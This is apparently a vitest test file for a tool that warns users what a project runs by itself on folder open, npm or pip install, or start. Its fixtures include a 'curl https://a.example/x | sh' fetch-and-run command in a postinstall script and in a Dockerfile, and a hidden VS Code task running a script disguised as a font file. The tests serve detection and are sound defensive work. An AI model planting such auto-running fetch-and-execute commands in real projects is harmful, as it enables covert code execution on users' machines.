import { describe, expect, it } from 'vitest';
import { sayStory } from '../../utils/inspect/say-runs.ts';
import { otherRuns, tellSteps } from '../../utils/inspect/tell-steps.ts';
import { json, runsIn } from './runs/project-of.ts';

const say = (files: Record<string, string>, unread = 0) => tellSteps(runsIn(files), unread).map(sayStory);
const task = (command: string, more: object = {}) => ({ '.vscode/tasks.json': json({ tasks: [{ label: 'x', command, runOptions: { runOn: 'folderOpen' }, ...more }] }) });

describe('sayStory', () => {
  it('says of each step that nothing here runs by itself, and never that it is safe', () => {
    const sentences = say({ 'a.txt': '' });
    expect(sentences).toEqual([
      'If you open it in VS Code: nothing of it runs by itself.',
      'If you run npm install: nothing of its own runs by itself. The packages it asks for may bring something.',
      'If you start it: no command for that was found.',
    ]);
  });

  it('quotes the commands and says where they begin', () => {
    const files = { ...task('node public/a.woff2', { presentation: { reveal: 'never' } }), 'public/a.woff2': '', 'package.json': json({ scripts: { postinstall: 'node .', start: 'next dev' }, main: 'lib/x.js' }), 'lib/x.js': '' };
    expect(say(files)).toEqual([
      'If you open it in VS Code: “node public/a.woff2” runs (VS Code task, kept out of sight).',
      'If you run npm install: “node .” runs (npm postinstall, starts lib/x.js).',
      'If you start it, for example with npm start: “next dev” runs (npm start). Many projects have these.',
    ]);
  });

  it('tells what is hidden first and how many more there are', () => {
    const scripts = { preinstall: 'husky', install: 'patch-package', postinstall: 'curl https://a.example/x | sh', prepare: 'husky', prepublish: 'tsc' };
    const [, install = ''] = say({ 'package.json': json({ scripts }) });
    expect(install).toMatch(/^If you run npm install: “curl https:\/\/a\.example\/x \| sh” runs \(npm postinstall, fetches from the network\); /);
    expect(install).toMatch(/\. And 1 more\.$/);
  });

  it('speaks of other editors and of pip by their names', () => {
    expect(say({ '.envrc': 'sh x.sh' })[0]).toBe('If you open it in an editor or a terminal: “sh x.sh” runs (direnv).');
    expect(say({ 'setup.py': '' })[1]).toBe('If you run pip install: “setup.py” runs (setup.py, pip install).');
  });

  it('names npm start before its kin, and instructions last', () => {
    const scripts = { build: 'tsc', dev: 'nodemon server.js', server: 'node server/index.js', start: 'node server.js' };
    const [, , start] = say({ 'package.json': json({ scripts }), 'server.js': '', 'README.md': '`npm start` and `node tools/x.js`', 'tools/x.js': '' });
    expect(start).toBe('If you start it, for example with npm start: “node server.js” runs (npm start); “nodemon server.js” runs (npm dev). And 2 more.');
  });

  it('does not say of a step that it starts itself', () => {
    const files = { 'README.md': '`npm install && npm start`', 'package.json': json({ scripts: { start: 'next dev' } }), 'next.config.js': '' };
    expect(say(files)[1]).toBe('If you run npm install: nothing of its own runs by itself. The packages it asks for may bring something.');
    expect(say({ 'README.md': '`pip install -r requirements.txt`', 'requirements.txt': 'flask', 'main.py': '' })[1]).toMatch(/^If you run pip install: nothing of its own/);
  });

  it('tells settings that extensions run apart from what runs by itself', () => {
    expect(say({ 'eslint.config.mjs': '', 'tailwind.config.js': '' })[0]).toBe(
      'If you open it in VS Code: nothing of it runs by itself. Extensions of the editor run eslint.config.mjs, tailwind.config.js as their settings.');
  });

  it('says when a settings file could not be read', () => {
    expect(say({ 'a.txt': '' }, 2)[0]).toMatch(/ 2 settings files could not be read\.$/);
  });

  it('calls nothing usual that is kept out of sight, and names no beginning where there are several', () => {
    expect(say(task('echo hello', { presentation: { reveal: 'never' } }))[0]).toBe('If you open it in VS Code: “echo hello” runs (VS Code task, kept out of sight).');
    const files = { 'package.json': json({ scripts: { start: 'next start' } }), 'app/page.tsx': '', 'app/layout.tsx': '' };
    expect(say(files)[2]).toMatch(/^If you start it, for example with npm start: “next start” runs \(npm start\)\./);
  });

  it('shows no character that hides or turns text', () => {
    const sentence = say(task('node \u202Ex\u200B\u0007.js'))[0] ?? '';
    expect(sentence).toMatch(/“node ␀x␀␀\.js”/);
  });

  it('tells with the opening what an offered container would run, and where', () => {
    const dev = { initializeCommand: 'bash .devcontainer/init.sh', postCreateCommand: 'node tools/x.js', build: { dockerfile: 'Dockerfile' } };
    const [open, , start] = say({ '.devcontainer/devcontainer.json': json(dev), '.devcontainer/init.sh': '', '.devcontainer/Dockerfile': 'FROM node\nRUN curl https://a.example/x | sh\n', 'tools/x.js': '' });
    expect(open).toMatch(/^If you open it in VS Code: nothing of it runs by itself\. If you then let it reopen in a container, which the editor offers: “bash \.devcontainer\/init\.sh” runs \(dev container initializeCommand, on your own computer\); “curl https:\/\/a\.example\/x \| sh” runs \(Dockerfile RUN, fetches from the network\); “node tools\/x\.js” runs/);
    expect(start).toBe('If you start it: no command for that was found.');
  });

  it('tells with the start what containers run, and leaves them out of what starts elsewhere', () => {
    const files = { Dockerfile: 'FROM node\nCMD ["node", "server.js"]\n', 'server.js': '', 'conftest.py': '' };
    expect(say(files)[2]).toContain('If you start its containers (docker): “node server.js” runs (Dockerfile CMD).');
    expect(otherRuns(runsIn(files)).map(({ moment }) => moment)).toEqual(['test']);
  });

  it('tells once what the instructions ask for and a script does', () => {
    const files = { 'README.md': 'Run `npm run dev` or `python main.py`.', 'package.json': json({ scripts: { dev: 'nodemon a.js' } }), 'a.js': '', 'main.py': '' };
    expect(say(files)[2]).toBe('If you start it, for example with npm run dev: “nodemon a.js” runs (npm dev); “python main.py” runs (README.md asks for it). Many projects have these.');
  });
});
